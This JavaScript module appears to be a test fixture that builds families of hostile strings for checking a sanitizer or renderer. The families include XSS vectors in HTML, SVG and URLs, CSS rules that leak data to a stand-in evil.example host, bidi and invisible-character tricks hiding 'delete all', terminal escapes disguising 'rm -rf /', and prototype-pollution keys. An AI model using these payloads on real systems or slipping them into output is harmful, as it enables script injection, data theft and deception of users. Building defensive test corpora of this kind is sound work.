// Texts that mean no good, or look like no text at all: families of them, each made of the facts that its source names.
// Every text is distinct. `HOSTILE` has all that can be sent as JSON; `LONE` has what cannot, texts of half a character.

/** The code points of a class, by the tables of the engine. */
const points = (/** @type {RegExp} */ pattern) => {
  const found = [];
  for (let point = 0; point <= 0x10ffff; point += 1) {
    if ((point < 0xd800 || point > 0xdfff) && pattern.test(String.fromCodePoint(point))) found.push(point);
  }
  return found;
};
const at = (/** @type {number[]} */ ...codes) => String.fromCodePoint(...codes);
const within = (/** @type {number[]} */ codes, before = "Keep", after = "all") => codes.map((/** @type {number} */ code) => before + at(code) + after);
/** @type {(...lists: any[][]) => any[][]} */
const product = (list, ...more) => (more.length ? list.flatMap((/** @type {any} */ one) => product(...more).map((/** @type {any} */ rest) => [one, ...rest])) : list.map((/** @type {any} */ one) => [one]));
/** The first and the last of each run of neighbours. */
const edges = (/** @type {number[]} */ codes) => codes.filter((/** @type {number} */ code, /** @type {number} */ place) => codes[place - 1] !== code - 1 || codes[place + 1] !== code + 1);

/** What each of them does if it runs. */
const RUN = "window.pwned=1";
const ENTITY = [...RUN].map((letter) => `&#${letter.charCodeAt(0)};`).join("");
const BASE64 = Buffer.from(`<script>${RUN}</script>`).toString("base64");

/** Events that need nobody: they happen once the element is there, or once it has failed. */
const MARKUP = [
  ...product(["img src=x onerror", "svg onload", "body onload", "video src=x onerror", "audio src=x onerror", "input autofocus onfocus", "details open ontoggle", "marquee onstart",
    "iframe onload", "object data=x onerror", "style onload", "link rel=stylesheet href=x onerror", "embed src=x onerror", "div onanimationstart", "b onpointerenter"], ["=", " = "], ["'", '"', ""])
    .map((/** @type {any[]} */ [event, is, quote]) => `<${event}${is}${quote}${RUN}${quote}>`),
  ...["script", "SCRIPT", "scr\0ipt", "script/x", "script\t", "script\n"].map((tag) => `<${tag}>${RUN}</${tag.trim()}>`),
  `<script src=data:text/javascript,${RUN}></script>`,
  `<script type=module>${RUN}</script>`,
  `<base href="https://evil.example/"><link rel=stylesheet href=/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<form action="javascript:${RUN}"><button>Continue</button></form>`,
  `<button formaction="javascript:${RUN}">Yes</button>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="data:text/html;base64,${BASE64}"></object>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<slot name=x onslotchange=${RUN}></slot>`,
  "<ask-user request='{}'></ask-user>",
  "<input name=attributes><input name=parentNode><form id=document><img name=querySelector>",
  "<plaintext>", "<!--", "-->", "<![CDATA[", "]]>", "<?xml version=1?>", "<!doctype html>", "</", "<", ">", "<x", "&", "&amp", "&lt;b&gt;", "&#0;", "&#x202e;",
];
const ADDRESSES = [
  ...["javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", "\x01javascript:", " javascript:", "javascript&colon;", "javascript&#58;", "vbscript:", "livescript:", "view-source:javascript:",
    "data:text/javascript,", "blob:javascript:", "feed:javascript:"].map((scheme) => `${scheme}${RUN}`),
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,${BASE64}`, `data:image/svg+xml,<svg onload=${RUN}>`,
  "https://good.example@evil.example/", "https://good.example\\@evil.example/", "https:\\\\evil.example", "//evil.example/x", "https://evil。example/", "https://ex\u00adample.com/",
  "https://xn--80ak6aa92e.com/", "file:///etc/passwd", "ask-user://x", "https://evil.example/\u202emoc.elpmaxe//:sptth",
];
const FOREIGN = product(["svg", "math"], [
  `<script>${RUN}</script>`, `<style><img src=x onerror=${RUN}></style>`, `<mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<foreignObject><iframe onload=${RUN}>`,
  `<animate onbegin=${RUN} attributeName=x dur=1s>`, `<set attributeName=onclick to=${RUN}>`, `<a href="javascript:${RUN}"><text>x</text></a>`, `<use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<annotation-xml encoding="text/html"><img src=x onerror=${RUN}>`, `<desc><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
]).map((/** @type {any[]} */ [tag, inner]) => `<${tag}>${inner}</${tag}>`);
const BREAKS = [
  ...product(['"', "'", "`", ""], [">", "/>", " ", "\n", "\0"], [`<img src=x onerror=${RUN}>`, `onfocus=${RUN} autofocus tabindex=0 `]).map((/** @type {any} */ parts) => parts.join("")),
  ...["textarea", "title", "style", "script", "noscript", "template", "select", "option", "label", "legend", "xmp", "iframe"].map((tag) => `</${tag}><img src=x onerror=${RUN}>`),
  ...["${", "{{", "#{", "<%=", "{%", "[[", "@{", "$${", "{{{"].map((open) => `${open}constructor.constructor("${RUN}")()}}`),
  `';${RUN};//`, `";${RUN};//`, `\\";${RUN};//`, `*/${RUN}/*`, `\u2028${RUN}`, `\u2029${RUN}//`, `</script><script>${RUN}`, `%0a${RUN}`, `\\u0027;${RUN}`,
];
const ENCODED = [
  `&lt;img src=x onerror=${RUN}&gt;`, `<img src=x onerror="${ENTITY}">`, `%3Cimg src=x onerror=${RUN}%3E`, `\\x3cimg src=x onerror=${RUN}\\x3e`, `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`, `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`, `\u02bascript\u02ba onload=${RUN}`, `<img src=x one\u200brror=${RUN}>`, `\ufeff<script>${RUN}</script>`,
  `<ſcript>${RUN}</ſcript>`, `<ımg src=x onerror=${RUN}>`, `\u00c0\u00bcscript\u00c0\u00be`, `<img src=x onerror\u3000=${RUN}>`,
];
const STYLES = [
  "</style><style>*{display:none}", "<style>@import 'https://evil.example/x.css';</style>", "@import url(//evil.example/x.css);", "}*{display:none!important}", "};--accent:url(//evil.example/)",
  "red;background:url(https://evil.example/?)", "x:expression(window.pwned=1)", "-moz-binding:url(//evil.example/x.xml#x)", "behavior:url(x.htc)", "url(javascript:window.pwned=1)",
  "<div style='position:fixed;inset:0;z-index:9'>Send answers</div>", "<link rel=stylesheet href=//evil.example/x.css>", "/*", "*/", "\\", "\\0", "\\22", "\\3c style", "var(--ask-user-accent)",
  "attr(data-x)", ":host{display:none}", "::part(base){display:none}", "@layer{*{color:red}}", "@font-face{src:url(//evil.example/f)}", "input[value^=a]{background:url(//evil.example/a)}",
  "env(x)", "image-set('//evil.example/x')", "@charset 'utf-7';", "<p part=base class='spoken'>hidden</p>", "--ask-user-text: transparent",
];

/** The controls of direction, with their names in the standard. */
const BIDI = { LRE: 0x202a, RLE: 0x202b, PDF: 0x202c, LRO: 0x202d, RLO: 0x202e, LRI: 0x2066, RLI: 0x2067, FSI: 0x2068, PDI: 0x2069, LRM: 0x200e, RLM: 0x200f, ALM: 0x061c };
const HEBREW = "\u05e9\u05dc\u05d5\u05dd";
const ARABIC = "\u0645\u0631\u062d\u0628\u0627";
const direction = Object.values(BIDI).flatMap((code) => [at(code), `a${at(code)}b`, `${at(code)}evil`, `1${at(code)}2 (x) 3`, `${HEBREW}${at(code)} 12`, at(code).repeat(100), `${at(code)}\n${at(code)}x`]);
const nested = Object.values(BIDI).slice(0, 9).map((code) => `${at(code).repeat(100)}deep${at(0x202c, 0x2069).repeat(50)}`);
const RIGHT = [HEBREW, ARABIC, `${HEBREW} abc ${ARABIC}`, `abc ${HEBREW} 123`, `(${HEBREW})`, `${HEBREW}!`, `${ARABIC}: 1,234`, `\u0661\u0662\u0663`, `${HEBREW}\nabc`, `"${ARABIC}"`, "\u07d0\u07d1", "\u{10800}\u{10801}"];

const FORMAT = points(/\p{Cf}/u);
const IGNORABLE = points(/\p{Default_Ignorable_Code_Point}/u).filter((code) => !FORMAT.includes(code));
const CONTROLS = points(/\p{Cc}/u);
const BLANKS = points(/\p{Zs}/u).filter((code) => code !== 0x20);
const SELECTORS = points(/\p{Variation_Selector}/u);
const tags = (/** @type {string} */ text) => [...text].map((letter) => at(0xe0000 + letter.charCodeAt(0))).join("");
const INVISIBLE = [
  ...within(FORMAT), ...within(edges(IGNORABLE)), ...within([0x2028, 0x2029, 0x2800]), ...within(BLANKS),
  ...[0x115f, 0x1160, 0x3164, 0xffa0, 0x17b4, 0x17b5, 0x180e, 0x2800, 0x34f, 0x200b, 0xad, 0x2060, 0xfeff, 0xfe0f].map((code) => `[${at(code).repeat(3)}]`),
  // Between letters of scripts that have no joiners.
  ...["а", "ж", "λ", "é", "ñ", "ש", "删", "한", "か", "ა"].flatMap((letter) => [0x200c, 0x200d, 0x34f, 0xfe0f].map((code) => letter + at(code) + letter)),
  // Hidden messages: in tags, after a flag, in selectors.
  `A${tags("delete all")}`, `\u{1f3f4}${tags("delete all")}`, `\u{1f3f4}${tags("gbeng")}${at(0xe007f)}${tags("x")}`, `\u{1f3f4}${tags("gbeng")}`, `${tags("a")}\u{1f3f4}${tags("b")}`,
  `\u{1f600}${[...Buffer.from("delete all")].map((byte) => at(0xe0100 + byte)).join("")}`, `\u{1f600}${at(0xfe0f).repeat(20)}`, `\u2764${at(0xfe0f, 0xfe0e, 0xfe0f)}`, `\u4e00${at(0xe0100, 0xe0101)}`,
  `a${SELECTORS.slice(0, 16).map((code) => at(code)).join("")}`, `${at(0xfe0f)}x`, `1${at(0xfe0f)}2`, `\u200d\u200d${at(0xfe0f)}\u200c`, `\u0915\u200d\u200d\u200c\u0915`,
  IGNORABLE.map((code) => at(code)).join(""), FORMAT.map((code) => at(code)).join(""),
];
/** What looks as if it had something to hide, and has not. */
const HARMLESS = [
  "\u{1f468}\u200d\u{1f469}\u200d\u{1f467}", "\u2764\ufe0f\u200d\u{1f525}", "1\ufe0f\u20e3", "#\ufe0f\u20e3", "\u00a9\ufe0f", `\u{1f3f4}${tags("gbeng")}${at(0xe007f)}`, `\u{1f3f4}${tags("gbwls")}${at(0xe007f)}`,
  "\u{1f1e9}\u{1f1ea}", "\u{1f44d}\u{1f3fd}", "\u06cc\u200c\u062e", "\u0915\u094d\u200d\u0937", "\u0d28\u0d4d\u200d", "\u845b\u{e0100}", "\u1820\u180b", "\u2801\u2800\u2803", "\u0600\u0661", "\u3007\ufe00",
];
const TERMINAL = [
  "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\", "\x1b]0;title\x07", "\x1b]52;c;ZXZpbA==\x07",
  "\x1bP+q544e\x1b\\", "\x1b[8mhidden\x1b[28m", "\x1b[1A\x1b[2Kgone", "\x9b31m", "\x9d8;;x\x9c", "safe\rrm -rf", "rm -rf /\b\b\b\b\b\b\b\bls", "\x07\x07\x07", "\x0e\x0f", "a\x7f\x7fb", "\x1bc", "\x1b%@",
  "line\r\nline", "\r", "a\r\r\nb", "\f", "\v", "\x1a", "\x04", "\x00", "x\x00.png", "\x85next",
];
const LOOKALIKES = [
  "\u0430pple.com", "p\u0430yp\u0430l", "g\u043e\u043egle", "\u0455ecure", "\u0501elete", "\u03bfk", "\uff39\uff45\uff53", "\u{1d418}\u{1d41e}\u{1d42c}", "\u24ce\u24d4\u24e2", "rn", "m", "l", "I", "|", "O", "0", "\u041e", "\u1d0f", "\u2044", "\u2215",
  "\u02d0", "\ua789", "\u2236", "\u3002", "\u2024", "\u2025", "\u01c3", "\u037e", "\u1fef", "\u0131", "\u212a", "\u017f", "\ufb01", "\u00e9", "e\u0301", "\u1100\u1161", "\uac00", "\u2126", "\u0370",
];
const MARKS = points(/[\u0300-\u036f]/).filter((code) => code !== 0x34f);
const LONG = [
  "x".repeat(20_000), `a${MARKS.map((code) => at(code)).join("").repeat(46).slice(0, 5_000)}`, `a${"\u0489".repeat(5_000)}`, "line\n".repeat(2_000), "\n".repeat(500), "\t".repeat(500), "\u00a0".repeat(2_000),
  "\u4e00".repeat(5_000), "\ufdfd".repeat(300), "\u{1f468}\u200d".repeat(500), "(".repeat(2_000), "<b>".repeat(1_000), `${HEBREW} `.repeat(500), "\u0e33".repeat(500), "\u{12031}".repeat(100), "W\u0336".repeat(500), "\u202e".repeat(1_000),
];
const NAMES = [
  "__proto__", "constructor", "prototype", "toString", "valueOf", "hasOwnProperty", "__defineGetter__", "__lookupSetter__", "isPrototypeOf", "toJSON", "then", "length", "name", "caller", "arguments", "undefined", "null", "NaN", "true",
  "false", "innerHTML", "outerHTML", "onclick", "style", "class", "id", "hidden", "shadowRoot", "adoptedStyleSheets", "default", "value", "__proto__.pwned", "constructor.prototype.pwned", "$ref", "$id", "#", "/", "~0", "~1", "a.b", "[object Object]",
];
const JSONISH = [
  '"', '\\"', "\\", "\\\\", "{", "}", "[", "]", "{}", "[]", '{"a":1}', '"}', '",', '","pwned":1,"', "\\u0000", "\\ud800", "\\n", "1e999", "-0", "0123", "1".repeat(400), '{"__proto__":{"pwned":1}}', "//", "/*x*/", "\u2028", "\u2029x", "'", "`", ":", ",",
];

/** The families: what they are, where their facts are from, and their texts. */
export const FAMILIES = [
  { family: "markup", source: "HTML Living Standard, 13.2 Parsing HTML documents and 8.1.8 Events", texts: MARKUP },
  { family: "addresses", source: "URL Living Standard, 4.4 URL parsing; HTML, 7.4.2.3 javascript: URLs; RFC 2397", texts: ADDRESSES },
  { family: "foreign content", source: "HTML Living Standard, 13.2.6.5 Tokens in foreign content; SVG 2, 15.2 Scripting", texts: FOREIGN },
  { family: "breaks", source: "HTML Living Standard, 13.2.5 Tokenization; ECMA-262, 12.3 Line Terminators", texts: BREAKS },
  { family: "encoded", source: "HTML Living Standard, 13.5 Named character references; RFC 3986, 2.1; RFC 2152; Unicode NFKC", texts: ENCODED },
  { family: "styles", source: "CSS Syntax 3, CSS Cascade 5 (@import), CSS Custom Properties 1, CSS Shadow Parts 1", texts: STYLES },
  { family: "direction", source: "UAX #9, 2 Directional formatting characters, and 3.3.2 on depth (125)", texts: [...direction, ...nested] },
  { family: "right to left", source: "UAX #9, table 4 (R, AL, AN)", texts: RIGHT },
  { family: "controls", source: "Unicode Character Database, General_Category Cc; ECMA-48", texts: within(CONTROLS) },
  { family: "invisible", source: "Unicode Character Database, General_Category Cf, Zl, Zp and Zs, Default_Ignorable_Code_Point; UTS #51, ED-14a (tags)", texts: INVISIBLE },
  { family: "harmless", source: "UTS #51, RGI emoji; UAX #31, 2.3 (joiners); StandardizedVariants.txt; Unicode, 9.2 (prepended marks)", texts: HARMLESS },
  { family: "terminal", source: "ECMA-48, 8.3; xterm, Control Sequences (OSC 0, 8, 52)", texts: TERMINAL },
  { family: "lookalikes", source: "UTS #39, 4 Confusable detection; UAX #15", texts: LOOKALIKES },
  { family: "long", source: "UAX #29, 3 (grapheme clusters have no limit); UAX #14", texts: LONG },
  { family: "names", source: "ECMA-262, 20.1.3 Properties of the Object prototype object; DOM Living Standard", texts: NAMES },
  { family: "JSON-ish", source: "RFC 8259, 7 Strings", texts: JSONISH },
];
export const HOSTILE = [...new Set(FAMILIES.flatMap(({ texts }) => texts))];
/** Halves of characters: JSON has no way to say them (RFC 8259, 8.2). */
export const LONE = ["\ud800", "a\udc00b", "\udfff\ud800", "x\udbff"];
export { ARABIC, HEBREW };
